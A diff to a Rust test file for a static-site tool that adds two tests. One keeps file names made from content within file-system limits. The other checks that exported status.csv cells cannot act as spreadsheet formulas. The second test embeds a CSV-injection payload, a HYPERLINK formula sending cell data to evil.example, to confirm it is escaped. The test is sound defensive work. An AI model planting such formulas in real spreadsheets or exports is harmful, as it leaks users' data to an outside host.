@@ -1554,6 +1554,68 @@ fn a_plan_saved_as_text_is_an_error_not_a_lost_year() {
     );
 }
 
+/// Names the output takes from content stay within the file system's 255 bytes: an id
+/// of 251 characters passed `check` and failed the build (`data/soeg/i/<id>.json`), as
+/// did a "word" of 300 letters common enough to get a postings file of its own.
+#[test]
+fn names_from_content_fit_the_file_system() {
+    let d = mini("long-names");
+    let id = "a".repeat(251);
+    let rel = format!("content/indsatsomraader/{id}.md");
+    put(d.path(), &rel, "+++\ntitle = \"Langt id\"\n+++\n");
+    let diags = planspor::check::check(d.path());
+    let e = find(&diags, "not where the content layout expects");
+    assert!(e.file.ends_with(format!("{id}.md")), "{e}");
+    assert!(
+        e.help
+            .as_deref()
+            .unwrap_or("")
+            .contains("at most 100 characters"),
+        "{e}"
+    );
+    std::fs::remove_file(d.path().join(&rel)).unwrap();
+
+    let word = format!("zq{}", "x".repeat(300));
+    let sections: String = (0..400)
+        .map(|i| format!("\n## Bilag {i}\n\n{word} tekst{}\n", " ord".repeat(i % 7)))
+        .collect();
+    put(d.path(), BY_PLAN, &format!("{BY_PLAN_TEXT}{sections}"));
+    build_to(d.path(), &d.path().join("public"), None)
+        .unwrap_or_else(|e| panic!("{}", e.render(false)));
+}
+
+/// A registry title that is a spreadsheet formula is not one in `status.csv`: opened in
+/// Excel, `=HYPERLINK(…&A2…)` would send the sheet's cells to another site.
+#[test]
+fn status_csv_cells_are_not_formulas() {
+    let d = mini("csv-formula");
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Indbrud\")";
+    edit(
+        d.path(),
+        "content/indsatsomraader/indbrud.md",
+        "title = \"Indbrud\"",
+        &format!("title = '{formula}'"),
+    );
+    let out = d.path().join("public");
+    build_to(d.path(), &out, None).unwrap_or_else(|e| panic!("{}", e.render(false)));
+    let csv = std::fs::read_to_string(out.join("data/status.csv")).unwrap();
+    let row = csv.lines().find(|l| l.starts_with("indbrud,")).unwrap();
+    assert!(
+        row.starts_with("indbrud,\"'=HYPERLINK(\"\"https://"),
+        "{row}"
+    );
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            assert!(
+                !cell
+                    .trim_start_matches('"')
+                    .starts_with(['=', '+', '-', '@']),
+                "{line}"
+            );
+        }
+    }
+}
+
 #[test]
 fn output_inside_content_is_refused() {
     let d = mini("out-in-content");
